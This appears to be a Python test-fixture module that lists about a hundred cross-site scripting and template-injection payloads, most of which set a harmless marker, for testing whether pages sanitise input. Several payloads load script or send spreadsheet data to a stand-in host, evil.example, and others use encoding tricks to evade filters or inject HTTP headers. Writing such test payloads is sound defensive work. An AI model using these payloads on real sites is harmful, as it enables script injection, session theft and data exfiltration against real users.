"""A hundred texts that try to run a script, or to break out of the place where a text is shown.

`RUN` is what each of them would do if it could: a test looks for its mark, and for what a page complains of.
None is longer than 200 characters, so that they fit into nearly every field; `short(n)` picks those that fit.
"""

from typing import Final

MARK: Final = "ranAway"
RUN: Final = f"window.{MARK}=1"

_TAGS = (
    f"<script>{RUN}</script>",
    f"<ScRiPt>{RUN}</sCrIpT>",
    f"<script >{RUN}</script >",
    f"<script\n>{RUN}</script\n>",
    f"<script/x>{RUN}</script>",
    f"<script type=module>{RUN}</script>",
    f"<scr<script>ipt>{RUN}</scr</script>ipt>",
    f"<<script>{RUN};//<</script>",
    f"<svg><script>{RUN}</script></svg>",
    f"<svg><script>{RUN.replace('=', '&#61;')}</script></svg>",
    f"<math><script>{RUN}</script></math>",
    "<script src=//evil.example/x.js></script>",
    "<script src=data:text/javascript,window.ranAway=1></script>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content='0;url=javascript:window.ranAway=1'>",
    "<meta http-equiv=refresh content='0;url=//evil.example/'>",
    "<iframe src=javascript:window.ranAway=1></iframe>",
    f'<iframe srcdoc="<script>parent.{MARK}=1</script>"></iframe>',
    "<object data=javascript:window.ranAway=1></object>",
    "<embed src=javascript:window.ranAway=1>",
    "<form action=javascript:window.ranAway=1><button>Press</button></form>",
    "<style>*{background:url(//evil.example/x)}</style>",
    "<style>@import '//evil.example/x.css';</style>",
    "<template><script>window.ranAway=1</script></template>",
)
_HANDLERS = (
    f"<img src=x onerror={RUN}>",
    f"<img src=x onerror='{RUN}'>",
    f'<img src="x" onerror="{RUN}">',
    f"<img/src=x/onerror={RUN}>",
    f"<img src=x onerror\n=\n{RUN}>",
    f"<img src=x:x onerror\x0b={RUN}>",
    f"<IMG SRC=x ONERROR={RUN}>",
    f"<img src=x onerror=&#119;indow.{MARK}=1>",
    f"<img src=x onerror=\\u0077indow.{MARK}=1>",
    f"<svg onload={RUN}>",
    f"<svg/onload={RUN}>",
    f"<svg\u00a0onload={RUN}>",
    f"<svg><animate onbegin={RUN} attributeName=x dur=1s>",
    f"<svg><set onbegin={RUN} attributeName=x to=y>",
    "<svg><a xlink:href=javascript:window.ranAway=1><text y=20>Press</text></a></svg>",
    f"<body onload={RUN}>",
    f"<details open ontoggle={RUN}>",
    f"<input autofocus onfocus={RUN}>",
    f"<textarea autofocus onfocus={RUN}>",
    f"<button autofocus onfocus={RUN}>",
    f"<video><source onerror={RUN}></video>",
    f"<audio src=x onerror={RUN}>",
    f"<video poster=x onloadstart={RUN} src=x>",
    f"<marquee onstart={RUN}>",
    f"<div style=animation:x onanimationstart={RUN}>",
    f"<xss contenteditable autofocus onfocus={RUN}>",
    f"<form onformdata={RUN}><button>Press</button></form>",
    f"<dialog open onclose={RUN}>",
)
_OUT_OF_PLACES = (
    f'"><script>{RUN}</script>',
    f"'><script>{RUN}</script>",
    f"--><script>{RUN}</script>",
    f"]]><script>{RUN}</script>",
    f"</title><script>{RUN}</script>",
    f"</textarea><script>{RUN}</script>",
    f"</script><script>{RUN}</script>",
    f"</style><script>{RUN}</script>",
    f"</option></select><script>{RUN}</script>",
    f"</noscript><script>{RUN}</script>",
    f"</summary></details><svg onload={RUN}>",
    f"</td></tr></table><svg onload={RUN}>",
    f'" onmouseover="{RUN}" x="',
    f"' onmouseover='{RUN}' x='",
    f'" autofocus onfocus="{RUN}',
    f"' autofocus onfocus='{RUN}",
    f"x onfocus={RUN} autofocus",
    f"`onfocus={RUN} autofocus`",
    f"';{RUN};//",
    f'";{RUN};//',
    f"\\';{RUN};//",
    f"${{{RUN}}}",
    f"#{{{RUN}}}",
    f"{{{{constructor.constructor('{RUN}')()}}}}",
    "{{ settings.SECRET_KEY }}{% debug %}",
    "{% include 'base.html' %}{# #}",
    "%{7*7}<%= 7*7 %>",
)
_ADDRESSES = (
    "javascript:window.ranAway=1",
    "JaVaScRiPt:window.ranAway=1",
    "java\tscript:window.ranAway=1",
    "\x01javascript:window.ranAway=1",
    "javascript://evil.example/%0awindow.ranAway=1",
    "data:text/html,<script>opener.ranAway=1</script>",
    "vbscript:window.ranAway=1",
    "//evil.example/",
)
_SIGNS = (
    f"&lt;script&gt;{RUN}&lt;/script&gt;",
    f"&#60;script&#62;{RUN}&#60;/script&#62;",
    f"%3Cscript%3E{RUN}%3C/script%3E",
    f"\\u003cscript\\u003e{RUN}\\u003c/script\\u003e",
    f"+ADw-script+AD4-{RUN}+ADw-/script+AD4-",
    f"\uff1cscript\uff1e{RUN}\uff1c/script\uff1e",
    f"\u2028{RUN}\u2029",
    f"\u202egnp.exe<svg onload={RUN}>",
    "Set-Cookie: session=stolen\r\nX-Evil: yes\r\n\r\n<svg onload=window.ranAway=1>",
    '=HYPERLINK("//evil.example/?"&A1,"<svg onload=window.ranAway=1>")',
    f"<noscript><p title='</noscript><img src=x onerror={RUN}>'>",
    f"<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror={RUN}&gt;'>",
)

PAYLOADS: Final = (*_TAGS, *_HANDLERS, *_OUT_OF_PLACES, *_ADDRESSES, *_SIGNS)


def short(longest: int) -> tuple[str, ...]:
    """Return the payloads that fit into a field of so many characters."""
    return tuple(payload for payload in PAYLOADS if len(payload) <= longest)
